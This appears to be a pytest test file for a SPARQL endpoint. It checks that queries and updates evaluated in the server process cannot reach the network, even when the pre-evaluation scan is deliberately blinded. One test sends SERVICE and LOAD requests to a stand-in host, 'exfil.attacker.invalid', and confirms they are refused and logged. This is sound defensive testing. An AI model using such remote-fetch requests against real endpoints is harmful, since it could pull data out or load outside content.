"""The server process's own SPARQL evaluation cannot reach the network
(:mod:`provml.endpoint.sparql.offline`): updates, and queries over a store whose queries are not
isolated in worker processes. The scan before evaluation is blinded here (it lets the
listener's URL by, as if it had misread the text), so that only the second guard stands between
the text and the listener; with ``--allow-remote`` the same texts reach it (the control)."""

from __future__ import annotations

import ctypes
import errno
import http.server
import logging
import socket
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import requests
from endpoint_servers import AUTH, LiveServer
from pyoxigraph import Store

from provml.endpoint import fast_reads
from provml.endpoint.sparql import offline, protocol


class Listener:
    """A loopback HTTP server that records each request: Turtle for a GET (LOAD), an empty
    SPARQL JSON answer for a POST (SERVICE)."""

    def __init__(self) -> None:
        calls = self.calls = []  # type: list[str]
        self.failing = False  # answer 500
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.answer(b"<http://example.org/far> <http://example.org/p> 1 .", "text/turtle")

            def do_POST(self) -> None:
                self.answer(b'{"head":{"vars":[]},"results":{"bindings":[{}]}}',
                            "application/sparql-results+json")

            def answer(self, body: bytes, media: str) -> None:
                calls.append(self.command + " " + self.path)
                self.send_response(500 if listener.failing else 200)
                self.send_header("Content-Type", media)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.server.shutdown()
    found.server.server_close()


@pytest.fixture
def blind_scan(monkeypatch: pytest.MonkeyPatch, listener: Listener) -> None:
    """The endpoint's scan lets the listener's URL by, whatever the operator allowed."""
    scan = protocol.scan_sparql

    def blind(text: str, *, what: str = "query", allowed: Any = ()) -> Any:
        return scan(text, what=what, allowed=[listener.url])

    monkeypatch.setattr(protocol, "scan_sparql", blind)
    monkeypatch.setattr(fast_reads, "scan_sparql", blind)


def pause(seconds: float) -> None:
    time.sleep(seconds)


def _update(server: LiveServer, text: str) -> requests.Response:
    return server("POST", "/sparql", data={"update": text}, headers=AUTH)


def _size(server: LiveServer) -> int:
    return len(server.store)  # type: ignore[arg-type]


def test_an_update_that_passes_the_scan_cannot_reach_the_network(
        make_disk_server: Callable[..., LiveServer], listener: Listener, blind_scan: None) -> None:
    server = make_disk_server()
    before = _size(server)
    response = _update(server, f"LOAD <{listener.url}a> INTO GRAPH <http://example.org/g2>")
    assert response.status_code == 400, response.text
    assert "tried to reach the network" in response.json()["error"]
    assert "--allow-remote" in response.json()["error"]
    # an update is one transaction: what came before the LOAD in it is not kept either
    response = _update(server, "INSERT DATA { <http://example.org/n> <http://example.org/p> 1 } ;"
                               f" LOAD <{listener.url}b>")
    assert response.status_code >= 400, response.text
    assert listener.calls == []
    assert _size(server) == before
    # the filter binds the server's evaluating threads only: this process still connects
    assert requests.get(listener.url + "c", timeout=5).status_code == 200
    assert _update(server, "INSERT DATA { <http://example.org/n> <http://example.org/p> 1 }"
                   ).status_code == 204
    assert _size(server) == before + 1


def test_with_allow_remote_the_same_update_reaches_the_listener(
        make_disk_server: Callable[..., LiveServer], listener: Listener, blind_scan: None) -> None:
    server = make_disk_server(ALLOW_REMOTE=(listener.url,))
    before = _size(server)
    response = _update(server, f"LOAD <{listener.url}a> INTO GRAPH <http://example.org/g2>")
    assert response.status_code == 204, response.text
    assert listener.calls == ["GET /a"]
    assert _size(server) == before + 1


@pytest.mark.parametrize("query", [
    "SELECT * WHERE {{ SERVICE <{u}q> {{ }} }}",  # read on the request's offline thread
    "SELECT DISTINCT * WHERE {{ SERVICE <{u}q> {{ }} }}",  # blocking: on the pool
])
def test_a_query_evaluated_in_the_server_process_cannot_reach_the_network(
        make_live_server: Callable[..., LiveServer], listener: Listener, blind_scan: None,
        query: str) -> None:
    server = make_live_server({"TIMEOUT_S": 10})  # an in-memory store: queries in process
    response = server("GET", "/sparql", params={"query": query.format(u=listener.url)})
    assert response.status_code == 400, response.text
    assert "tried to reach the network" in response.json()["error"]
    assert listener.calls == []
    allowed = make_live_server({"TIMEOUT_S": 10, "ALLOW_REMOTE": (listener.url,)})
    response = allowed("GET", "/sparql", params={"query": query.format(u=listener.url)})
    assert response.status_code == 200, response.text
    assert listener.calls == ["POST /q"]


def test_cut_network_binds_the_calling_thread_only(listener: Listener) -> None:
    seen: dict[str, Any] = {}

    def cut() -> None:
        seen["why_not"] = offline.cut_network()
        try:
            socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        except OSError as error:
            seen["inet"] = error.errno
        try:
            socket.create_connection(("::1", 9), timeout=1)
        except OSError as error:
            seen["inet6"] = error.errno
        try:  # AF_UNIX too: glibc asks local resolvers (nscd ...) over it
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError as error:
            seen["unix"] = error.errno
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall(425, 4, ctypes.create_string_buffer(120)) == -1:  # io_uring_setup
            seen["io_uring"] = ctypes.get_errno()
        try:
            Store().update(f"LOAD <{listener.url}x>")
        except OSError as error:
            seen["oxigraph"] = offline.network_refused(error)

    thread = threading.Thread(target=cut)
    thread.start()
    thread.join()
    assert seen == {"why_not": None, "inet": errno.EAFNOSUPPORT, "inet6": errno.EAFNOSUPPORT,
                    "unix": errno.EAFNOSUPPORT, "io_uring": errno.ENOSYS, "oxigraph": True}
    assert listener.calls == []
    with socket.create_connection(("127.0.0.1", listener.server.server_port), timeout=5):
        pass  # this thread was never cut


def test_a_thread_that_cannot_leave_the_network_says_so_once(
        monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    """Once a process, however many pools and threads (a review found one warning a pool);
    and a runner whose threads keep the network hands nothing off for them."""
    from provml.endpoint.sparql.evaluation import QueryRunner
    from provml.store import open_store

    monkeypatch.setattr(offline, "cut_network", lambda: "no seccomp here")
    monkeypatch.setattr(offline, "_TOLD", threading.Event())
    with caplog.at_level(logging.WARNING, logger="provml.endpoint"):
        pools = [offline.OfflineThreads("provml-test", threads=3) for _ in range(3)]
        try:
            for threads in pools:
                assert [f.result() for f in [threads.submit(pause, 0.05) for _ in range(3)]] \
                    == [None] * 3  # three threads at once in each pool
                assert threads.why_not == "no seccomp here"
        finally:
            for threads in pools:
                threads.shutdown()
        runner = QueryRunner(timeout_s=5, max_rows=10, offline=True)
        try:
            assert runner._reads is None and runner._updates is None
            assert len(runner.run(open_store(), "SELECT * WHERE { VALUES ?x { 1 2 } }").rows) == 2
        finally:
            runner.close()
    warnings = [r.getMessage() for r in caplog.records if "keeps the network" in r.getMessage()]
    assert warnings == ["SPARQL evaluated in the server process keeps the network (no seccomp "
                        "here): SERVICE and LOAD are refused by the check before evaluation only"]


FALLBACK = """
import ctypes, socket, threading
real = ctypes.CDLL
class NoUnshare:  # a kernel that refuses user namespaces
    def __init__(self, *args, **kwargs):
        self.lib = real(*args, **kwargs)
    def __getattr__(self, name):
        return (lambda flags: -1) if name == "unshare" else getattr(self.lib, name)
ctypes.CDLL = NoUnshare
from provml.endpoint.sparql.isolation import _offline
print(_offline())
def connect():
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=2).close()
        print("connected")
    except OSError as error:
        print(error.errno)
connect()
thread = threading.Thread(target=connect)
thread.start()
thread.join()
"""


def test_a_query_worker_refused_a_network_namespace_gets_the_filter(listener: Listener) -> None:
    import subprocess
    import sys

    script = FALLBACK.replace("PORT", str(listener.server.server_port))
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         timeout=60, check=True).stdout.split()
    assert out == ["None", str(errno.EAFNOSUPPORT), str(errno.EAFNOSUPPORT)]
    assert listener.calls == []


def test_a_host_name_is_not_looked_up_and_the_guard_tripping_is_logged(
        make_live_server: Callable[..., LiveServer], monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    """A target named by host name fails in its lookup, not its socket: a 400 all the same (a
    review found a 500 with a traceback for a query and a 502 for an update); and the server
    log says that the scan let it by."""
    url = "http://exfil.attacker.invalid/"
    scan = protocol.scan_sparql
    monkeypatch.setattr(protocol, "scan_sparql", lambda text, *, what="query", allowed=(): scan(
        text, what=what, allowed=[url]))
    monkeypatch.setattr(fast_reads, "scan_sparql", protocol.scan_sparql)
    server = make_live_server({"TIMEOUT_S": 10})
    with caplog.at_level(logging.WARNING, logger="provml.endpoint"):
        query = server("GET", "/sparql", params={"query": f"SELECT * WHERE {{ SERVICE <{url}q> {{ }} }}"})
        update = _update(server, f"LOAD <{url}a>")
    for response in (query, update):
        assert response.status_code == 400, response.text
        assert "tried to reach the network" in response.json()["error"]
    logged = [r.getMessage() for r in caplog.records if "passed the scan" in r.getMessage()]
    assert len(logged) == 2 and "exfil.attacker.invalid/q" in logged[0]


def test_query_workers_refuse_a_service_the_scan_missed_and_call_a_failing_allowed_one_once(
        make_disk_server: Callable[..., LiveServer], listener: Listener, blind_scan: None) -> None:
    """On an on-disk store the workers evaluate: the same 400; and an allowed service that
    fails is called once (the workers took its failure for a broken view and asked again: three
    calls)."""
    server = make_disk_server()
    text = f"SELECT * WHERE {{ SERVICE <{listener.url}q> {{ }} }}"
    response = server("GET", "/sparql", params={"query": text})
    assert response.status_code == 400, response.text
    assert "tried to reach the network" in response.json()["error"]
    assert listener.calls == []
    listener.failing = True
    allowed = make_disk_server(ALLOW_REMOTE=(listener.url,))
    response = allowed("GET", "/sparql", params={"query": text})
    assert response.status_code == 503, response.text
    assert listener.calls == ["POST /q"]
